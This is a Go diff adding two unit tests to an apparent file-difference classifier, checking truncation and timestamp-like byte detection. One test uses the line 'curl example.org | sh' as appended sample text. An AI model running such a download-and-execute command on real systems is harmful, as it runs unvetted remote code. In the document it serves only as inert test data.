@@ -282,3 +282,40 @@ func FuzzPE(f *testing.F) {
 		}
 	})
 }
+
+// TestNothingCutOff: lines that one text has after all of the other's are no cut,
+// and four bytes of text are no time.
+func TestNothingCutOff(t *testing.T) {
+	text := strings.Repeat("some line\n", 20)
+	if got := causesOf(pairOf(t, []byte(text), []byte(text+"curl example.org | sh\n"))); len(got) != 0 {
+		t.Errorf("lines at the end: %q", got)
+	}
+	if got := causesOf(pairOf(t, []byte(text), []byte(text[:len(text)-3]))); len(got) != 1 || got[0] != "D7c likely" {
+		t.Errorf("a line that breaks off: %q", got)
+	}
+	full := strings.Repeat("0123456789abcde\n", 64) // ends where blocks end
+	if got := causesOf(pairOf(t, []byte(full+"more\n"), []byte(full))); len(got) != 1 || got[0] != "D7c likely" {
+		t.Errorf("cut at the end of a block: %q", got)
+	}
+	if got := causesOf(pairOf(t, []byte("v4.17.20\n\nThe text\n"), []byte("v4.17.21\n\nThe text\n"))); len(got) != 0 {
+		t.Errorf("a version: %q", got)
+	}
+}
+
+// TestTimesByChance: where other bytes differ as well, four bytes that could be a
+// time are not said to be one.
+func TestTimesByChance(t *testing.T) {
+	pad := bytes.Repeat([]byte{1, 0xff}, 400)
+	at := func(last byte, rest ...byte) []byte {
+		return append(append(append([]byte{}, pad...), 0x10, 0x20, 0x60, 0x69, 0, 0, 0, 0), append(append(append([]byte{}, pad...), 0, last), rest...)...)
+	}
+	a, b := at(1), at(200)
+	b[len(pad)] = 0x55
+	if got := causesOf(pairOf(t, a, b)); len(got) != 0 {
+		t.Errorf("%q", got)
+	}
+	b[len(b)-1] = 1
+	if got := causesOf(pairOf(t, a, b)); len(got) != 1 || got[0] != "D1b likely" {
+		t.Errorf("alone: %q", got)
+	}
+}
